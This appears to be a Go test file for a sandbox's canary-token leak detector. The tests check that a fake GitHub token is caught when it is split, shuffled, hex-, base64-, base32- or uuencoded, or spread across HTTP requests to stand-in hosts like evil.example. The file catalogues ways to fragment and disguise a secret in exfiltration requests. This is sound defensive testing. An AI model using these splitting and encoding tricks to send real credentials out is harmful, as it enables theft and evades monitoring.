package sandbox

import (
	crand "crypto/rand"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"gauntlet/internal/leaf/text"
)

// inPieces cuts a text.
func inPieces(text string, n int) (out []string) {
	for len(text) > n {
		out, text = append(out, text[:n]), text[n:]
	}
	return append(out, text)
}

func shuffled(pieces []string) []string {
	rand.New(rand.NewPCG(1, 2)).Shuffle(len(pieces), func(i, j int) { pieces[i], pieces[j] = pieces[j], pieces[i] })
	return pieces
}

func backwards(pieces []string) []string { slices.Reverse(pieces); return pieces }

func numbered(pieces []string) []string {
	for i := range pieces {
		pieces[i] = fmt.Sprintf("%d-%s", i, pieces[i])
	}
	return pieces
}

func everyNth(text string, first, n int) string {
	var b strings.Builder
	for at := first; at < len(text); at += n {
		b.WriteByte(text[at])
	}
	return b.String()
}

// What uuencode makes is known: "Cat" is 0V%T.
func TestUuencoding(t *testing.T) {
	if got := uuencoding.EncodeToString([]byte("Cat")); got != "0V%T" {
		t.Error(got)
	}
}

// A path is several words, and what base64 has of one is not.
func TestWordsOfPaths(t *testing.T) {
	for text, want := range map[string]string{"GET /0/k HTTP/1.1": "GET 0 k HTTP/1 1", "ab/cd+e /xy": "ab/cd+e /xy", "/a/": "a"} {
		if got := strings.Join(wordsOf(text), " "); got != want {
			t.Errorf("%q has the words %q, want %q", text, got, want)
		}
	}
}

// A canary in pieces is found in whatever order they leave and wherever they go to; what is like one is none.
func TestCanariesInPieces(t *testing.T) {
	canaries := newCanaries()
	secret := canaries[slices.IndexFunc(canaries, func(c Canary) bool { return c.Name == "env_github_token" })]
	other := canaries[slices.IndexFunc(canaries, func(c Canary) bool { return c.Name == "env_database_password" })]
	v := secret.Value
	one := func(int) string { return "a.evil.example" }
	many := func(i int) string { return fmt.Sprintf("evil%d.example", i) }
	as := func(format string, pieces []string) []string {
		for i := range pieces {
			pieces[i] = fmt.Sprintf(format, pieces[i])
		}
		return pieces
	}
	random := make([]byte, 1<<20)
	_, _ = crand.Read(random)
	for _, tt := range []struct {
		name   string
		pieces []string
		host   func(int) string
		want   bool
	}{
		{"in order", inPieces(v, 8), one, true},
		{"letter by letter", inPieces(v, 1), one, true},
		{"two letters, the last first", backwards(inPieces(v, 2)), one, true},
		{"three letters and their numbers, in any order", shuffled(numbered(inPieces(v, 3))), one, true},
		{"letters and their numbers, in any order", shuffled(numbered(inPieces(v, 1))), one, true},
		{"six letters in any order", shuffled(inPieces(v, 6)), one, true},
		{"six letters in any order, each elsewhere", shuffled(inPieces(v, 6)), many, true},
		{"hexadecimal in any order, each elsewhere", shuffled(inPieces(hex.EncodeToString([]byte(v)), 12)), many, true},
		{"base64 of more in any order", shuffled(inPieces(base64.StdEncoding.EncodeToString([]byte(`{"TOKEN":"`+v+`","x":"yz"}`)), 10)), many, true},
		{"base32 in any order", shuffled(inPieces(strings.ToLower(base32.StdEncoding.EncodeToString([]byte("xy"+v))), 12)), one, true},
		{"backwards in any order", shuffled(inPieces(text.Backwards(v), 8)), many, true},
		{"uuencode", []string{"begin 644 x\nM" + uuencoding.EncodeToString([]byte("k="+v)) + "\n`\nend\n"}, one, true},
		{"every second letter elsewhere", []string{everyNth(v, 0, 2), everyNth(v, 1, 2)}, many, true},
		{"every third letter elsewhere, in any order", shuffled([]string{everyNth(v, 0, 3), everyNth(v, 1, 3), everyNth(v, 2, 3)}), many, true},
		{"in requests", as("GET /collect?part=%s HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n\r\n", backwards(inPieces(v, 2))), one, true},
		{"in longer requests, in any order", as("POST / HTTP/1.1\r\nHost: evil.example\r\n\r\n{\"id\":\"%s\"}", shuffled(inPieces(v, 7))), many, true},
		{"letter by letter, each elsewhere", inPieces(v, 1), many, true},
		{"two letters of requests, each elsewhere", as("GET /collect?part=%s HTTP/1.1\r\nHost: evil.example\r\n\r\n", inPieces(v, 2)), many, true},
		{"half of it letter by letter", inPieces(v[:len(v)/2], 1), many, false},
		{"half of it", shuffled(inPieces(v[:len(v)/2], 6)), one, false},
		{"to whom it belongs", shuffled(inPieces(v, 6)), func(int) string { return "api.github.com" }, false},
		{"what is as long", shuffled(inPieces("ghp_"+randomOf(alnum, 36), 6)), one, false},
		{"much that is random", inPieces(base64.StdEncoding.EncodeToString(random), 1000), one, false},
		{"random names", inPieces(hex.EncodeToString(random[:16_000]), 16), one, false},
		{"numbers", inPieces(strings.Repeat("0123456789", 2000), 7), many, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			p := newPuzzle(canaries, newCanaryFinder(canaries))
			var found []string
			for i, text := range tt.pieces {
				found = union(found, p.add(tt.host(i), text, int64(i+1)))
			}
			if got := slices.Contains(found, secret.Name); got != tt.want || slices.Contains(found, other.Name) {
				t.Errorf("found %q, want %s: %t", found, secret.Name, tt.want)
			}
		})
	}
}

// Connections that were begun in order end in any, and a name is looked up before each.
func TestPiecesHaveTheTurnOfTheirConnection(t *testing.T) {
	canaries := newCanaries()
	v := canaries[slices.IndexFunc(canaries, func(c Canary) bool { return c.Name == "env_github_token" })].Value
	for _, tt := range []struct {
		name string
		turn func(arrived int) int64
		want bool
	}{
		{"as they came", func(i int) int64 { return int64(i + 1) }, false},
		{"as they were begun", func(i int) int64 { return int64(i ^ 1 + 1) }, true},
	} {
		p := newPuzzle(canaries, newCanaryFinder(canaries))
		pieces := inPieces(v, 1)
		var found []string
		for i := range pieces { // the second before the first
			found = union(found, p.add("a.evil.example", "a", 0))
			found = union(found, p.add("a.evil.example", pieces[i^1], tt.turn(i)))
		}
		if got := slices.Contains(found, "env_github_token"); got != tt.want {
			t.Errorf("%s: found %v", tt.name, found)
		}
	}
}

// Some letters of a canary in a row are no canary: a third of a key of twenty letters stands in a request now and then by chance.
func TestOneStrandIsNoCanary(t *testing.T) {
	canaries := newCanaries()
	for i := range canaries {
		for ways := 2; ways <= mostWays && canaries[i].Value != ""; ways++ {
			p := newPuzzle(canaries, newCanaryFinder(canaries))
			if found := p.add("registry.example", everyNth(canaries[i].Value, 0, ways), 1); len(found) > 0 {
				t.Errorf("one of %d strands of %s tells %q", ways, canaries[i].Name, found)
			}
		}
	}
}
